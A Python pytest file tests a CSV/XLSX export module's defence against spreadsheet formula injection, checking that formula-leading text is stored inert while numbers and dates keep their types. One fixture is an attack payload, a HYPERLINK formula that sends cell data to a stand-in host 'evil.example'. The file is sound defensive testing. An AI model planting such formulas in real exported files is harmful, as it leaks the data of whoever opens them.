"""The shared CSV/XLSX writer: text a spreadsheet would run as a formula is stored inert, while
numbers (negative ones too) and dates stay numbers and dates. Read back with the csv module
and openpyxl, and the XLSX's own XML."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from workflow import spreadsheets

LEADS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM"]


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith(spreadsheets.BOM)
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("text", LEADS)
def test_a_formula_leading_csv_field_gets_an_apostrophe(text):
    rows = _csv_rows(spreadsheets.to_csv([[text, "Almindelig tekst"]]))
    assert rows == [["'" + text, "Almindelig tekst"]]


def test_csv_numbers_and_dates_are_left_alone():
    rows = _csv_rows(
        spreadsheets.to_csv([[-12, Decimal("-2500.50"), -0.5, date(2020, 9, 1), None, "5 - 3"]])
    )
    assert rows == [["-12", "-2500,50", "-0,5", "2020-09-01", "", "5 - 3"]]


def _workbook_of(rows):
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        spreadsheets.append_row(sheet, row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_xlsx_text_is_stored_as_text_never_as_a_formula():
    title = '=HYPERLINK("https://evil.example/?d="&A2,"Klik her")'
    data = _workbook_of([[title, *LEADS], [], ["Almindelig", "tekst"]])
    sheet = load_workbook(io.BytesIO(data)).active
    first = list(sheet[1])
    assert [c.value for c in first] == [title, *LEADS]
    assert {c.data_type for c in first} == {"s"}
    assert all(c.quotePrefix for c in first)  # Excel keeps it text even when edited
    assert sheet["A2"].value is None  # the empty row stays a row
    assert [c.value for c in sheet[3]][:2] == ["Almindelig", "tekst"]
    assert not sheet["A3"].quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_numbers_stay_numbers_and_dates_stay_dates():
    data = _workbook_of([[-12, Decimal("-2500.50"), -0.5, date(2020, 9, 1), None]])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = list(sheet[1])
    assert [c.value for c in cells[:3]] == [-12, -2500.5, -0.5]
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]
    assert cells[3].is_date and cells[3].value.date() == date(2020, 9, 1)
